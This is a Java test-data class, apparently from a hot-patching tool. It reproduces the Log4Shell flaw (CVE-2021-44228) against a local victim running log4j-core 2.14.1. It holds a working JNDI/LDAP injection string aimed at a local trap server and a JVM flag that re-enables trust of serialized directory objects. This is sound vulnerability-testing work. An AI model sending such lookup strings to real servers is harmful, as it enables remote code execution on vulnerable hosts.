package dev.hotpatch.testdata.cve;

import dev.hotpatch.testdata.corpus.MavenArtifact;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.UUID;

/** A text of a stranger in the log makes the server look up an object in the stranger's directory. */
public final class Log4j implements Vulnerability {
    private static final String GROUP = "org.apache.logging.log4j";
    private static final Duration PATIENCE = Duration.ofSeconds(10);

    @Override
    public String cve() {
        return "CVE-2021-44228";
    }

    @Override
    public VictimProgram program() {
        return new VictimProgram(
                "LoggingMain",
                MavenArtifact.jar(GROUP, "log4j-core", "2.14.1"),
                MavenArtifact.jar(GROUP, "log4j-core", "2.17.1"),
                // The interface of the fixed release: it serves either.
                List.of(MavenArtifact.jar(GROUP, "log4j-api", "2.17.1")),
                // The JDK trusted objects from directories when this flaw became known; later updates do not by
                // default.
                List.of(
                        "-Dcom.sun.jndi.ldap.object.trustSerialData=true",
                        "-Dlog4j.configurationFile=classpath:dev/hotpatch/testdata/cve/programs/logging.xml"));
    }

    @Override
    public Attempt attack(RunningVictim victim) throws IOException, InterruptedException {
        String token = UUID.randomUUID().toString();
        try (LdapTrap directory = LdapTrap.set(token)) {
            String logged = logged(victim, "${jndi:ldap://127.0.0.1:" + directory.port() + "/" + token + "}");
            boolean looked = directory.asked().contains(token);
            String created = victim.jvm().output().stream()
                    .filter(line -> line.startsWith("CREATED " + token))
                    .findFirst()
                    .orElse("no object was created");
            return new Attempt(looked, logged + "; directory asked for " + directory.asked() + "; " + created);
        }
    }

    @Override
    public String use(RunningVictim victim) throws IOException, InterruptedException {
        return logged(victim, "lamp-" + victim.jvm().lineCount()).replaceAll("\\d+", "N");
    }

    /** The line that the victim wrote into its log for a text. */
    private static String logged(RunningVictim victim, String text) throws IOException, InterruptedException {
        int before = victim.jvm().lineCount();
        RunningVictim.Reply reply = victim.post("text/plain", text);
        if (reply.status() != 200) {
            throw new IOException("the victim did not log: " + reply.text());
        }
        return victim.jvm().await("LOGGED ", before, PATIENCE);
    }
}
